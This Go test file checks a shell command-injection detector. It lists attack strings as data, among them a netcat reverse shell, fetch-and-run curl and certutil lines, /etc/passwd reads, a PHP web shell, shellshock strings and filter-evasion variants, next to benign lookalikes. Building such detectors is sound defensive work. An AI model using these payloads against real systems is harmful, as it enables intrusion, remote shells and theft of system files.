package threat

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"mvdan.cc/sh/v3/syntax"
)

func TestShellStartsACommand(t *testing.T) {
	t.Parallel()
	for rule, texts := range map[string][]string{
		"separators":    {"; id", "x;id", "| cat /etc/passwd", "|| whoami", "&& ls -la", "& ping -c 1 10.0.0.1 &", "x\nid", "a%0aid", "a);id;", `";id;"`, "';sleep 5;'", "127.0.0.1; date;", "1|nc -e /bin/sh 10.0.0.1 4444", "x;ps aux", "a%3Bcat%20/etc/passwd", "a%253Bid", "; ping {HOST} ;", `a;id\n`},
		"substitutions": {"$(id)", "`id`", "a$(cat /etc/passwd)b", "x`whoami`", "<(curl http://e.example)", "$(echo x)", `"$(uname -a)"`},
		"no spaces":     {"cat${IFS}/etc/passwd", ";cat$IFS$9/etc/passwd", "{cat,/etc/passwd}", ";{cat,/etc/passwd}", ";cat</etc/passwd", "|echo+A$((1+2))"},
		"bent names":    {`;c\at /etc/passwd`, `;c'a't /etc/passwd`, `|w"h"oami`, "|who$@ami", "|who$()ami", "|wh``oami", "|w${u}hoami", "&wh^oami"},
		"directories":   {";/bin/id", "|/usr/bin/id", "/bin/cat /etc/passwd", ";/bin/c?t /etc/passwd", ";/???/c?t /etc/passwd", `&C:\windows\system32\ping.exe`},
		"before a name": {";x=1 id", "|sudo id", "&cmd /c dir", "; env ls -la"},
		"whole lines":   {"cat /etc/passwd", "ls -la /", "ping -c 10 127.0.0.1", "curl http://e.example/x | sh", "sleep 10", `\nid\n`, "rm -rf /tmp/x", "which curl", "net user x y /add", "netsh firewall show"},
		"windows":       {"| dir", `& type C:\boot.ini`, "&& ipconfig /all", "| whoami.exe", "|powershell -enc AAAA", "& certutil -urlcache -f http://e.example/a a.exe", "| Get-Content x.txt", "; Invoke-WebRequest http://e.example", "|for /f %i in ('whoami') do echo %i", `& reg query HKLM\SOFTWARE`},
		"shellshock":    {"() { :;}; /bin/id", "() { _; } >_[$($())] { id; }"},
		"script":        {"system('id')", ";system('cat /etc/passwd')", "<?php system($_GET['c']); ?>", `<!--#exec cmd="id"-->`, "phpinfo()", "eval('id')", `exec("id")`, "{${sleep(5)}}", `x.exec("/bin/id")`},
	} {
		t.Run(rule, func(t *testing.T) {
			t.Parallel()
			sinkRows(t, Shell, Command, texts...)
		})
	}
}

func TestShellHarmless(t *testing.T) {
	t.Parallel()
	sinkRows(t, Shell, None,
		"", ";", "|", "& ", "a; b", "sort; find the rest", "Find the file, then sort it; head for the exit.", "cats & dogs", "dogs & cat lovers", "pets; cat food", "make haste; dash off", "he said; who cares", "Q&A", "AT&amp;T", "a &lt;id&gt; b", "R&D; test it later", "time; date; place",
		"name;id;date", "id|name|type", "| id | name | type |", "|------|------|", "(head|tail)", "(read|write|sort)", "a || b && c", "x | y", "if (a && test(b)) {", "x = a | sort(b)", "find = y; sort = z", "type: string", `"type": "sort"`, "- id: 3",
		"Find me at /home", "Cut here", "date: 2026-01-02", "time = 3", "sort(key=f)", "the `id` of it", "Use `sort` or `uniq`", "call `f(x)` there", "system(x)", "model.eval()", "cursor.exec('SELECT 1')", "os.system is a function", "time.sleep(5)", "sleep(n)", "    sleep(1)", "eval('3 + 4')", "export {};",
		"$(document).ready(f)", "$(this)", "${x}", "a <- b", "and/or", "w/o", "1/2; 3/4", "/* cut */", "// head", "# comment", "@id", "<id>", "ls", "id", "{id}", "(date)", `"id"`, "whoami", "python", "less is more", "make a change", "top of the page", "echo",
		"s|a|b|g", "a|b", "p(a|b)", "GET /a?id=1&sort=asc&type=x", "https://e.example/?a=b&id=3", "x;y;z", "C:\\a\\b", "wait; what?", "stop | go",
	)
}

// TestShellOfTraps: data about commands, and code, pass.
func TestShellOfTraps(t *testing.T) {
	t.Parallel()
	sinkRows(t, Shell, None, "f(a, b)[0] = {c: d}; // $x | y & z", "def f(x): return `x` if a else b", "Price: $5 (net); tax & fees | total", "for i := 0; i < n; i++ { a[i] |= b & c }")
	for _, name := range []string{"benign_text", "benign_code", "benign_config", "benign_log", "benign_name", "benign_path"} {
		for _, s := range sinkLines(t, name) {
			require.Equal(t, None, Shell(s), "%s: %q", name, s)
		}
	}
}

// startsCommand is the oracle: pasted behind a command's name, in no quotes or in either kind, the text starts a further command, and
// the command is a known program.
func startsCommand(s string) bool {
	for _, line := range []string{"probe " + s, `probe "` + s + `"`, "probe '" + s + "'"} {
		file, err := syntax.NewParser().Parse(strings.NewReader(line), "")
		if err != nil {
			continue
		}
		found := false
		syntax.Walk(file, func(n syntax.Node) bool {
			call, ok := n.(*syntax.CallExpr)
			if !ok || len(call.Args) == 0 {
				return true
			}
			name := call.Args[0].Lit()
			if at := strings.LastIndexByte(name, '/'); at >= 0 {
				name = name[at+1:]
			}
			found = found || program([]byte(strings.ToLower(name))) != programNone
			return true
		})
		if found {
			return true
		}
	}
	return false
}

func TestShellAgainstTheParser(t *testing.T) {
	t.Parallel()
	var texts []string
	for _, command := range []string{"id", "whoami", "cat /etc/passwd", "ls -la", "curl http://e.example/x", "ping -c 3 10.0.0.1", "nc -e /bin/sh 10.0.0.1 4444", "sleep 5", "/usr/bin/id", "rm -rf /tmp/x", "python3 -c 'x'"} {
		for _, around := range []string{"; %", ";%;", "x;%", "|%", "| %", "||%", "&& %", "& % &", "`%`", "$(%)", "a$(%)b", "\n%", "'; %; '", `"; %; "`, "1 | % #", "x && % || y", "$(  %  )", "\"$(%)\""} {
			texts = append(texts, strings.ReplaceAll(around, "%", command))
		}
	}
	found := 0
	for _, s := range texts {
		if startsCommand(s) {
			found++
			require.Equal(t, Command, Shell(s), "%q", s)
		}
	}
	require.Greater(t, found, 150)
}

// TestShellAgainstTheParserOnTheCorpus: of the public payloads that start a program by the grammar of the shell, all but a few.
func TestShellAgainstTheParserOnTheCorpus(t *testing.T) {
	t.Parallel()
	starts, missed := 0, 0
	for _, s := range sinkLines(t, "attack_cmd") {
		if !startsCommand(s) {
			continue
		}
		starts++
		if Shell(s) == None {
			missed++
			t.Logf("missed: %q", s)
		}
	}
	t.Logf("%d of %d missed", missed, starts)
	require.Greater(t, starts, 100)
	require.LessOrEqual(t, missed*50, starts)
}
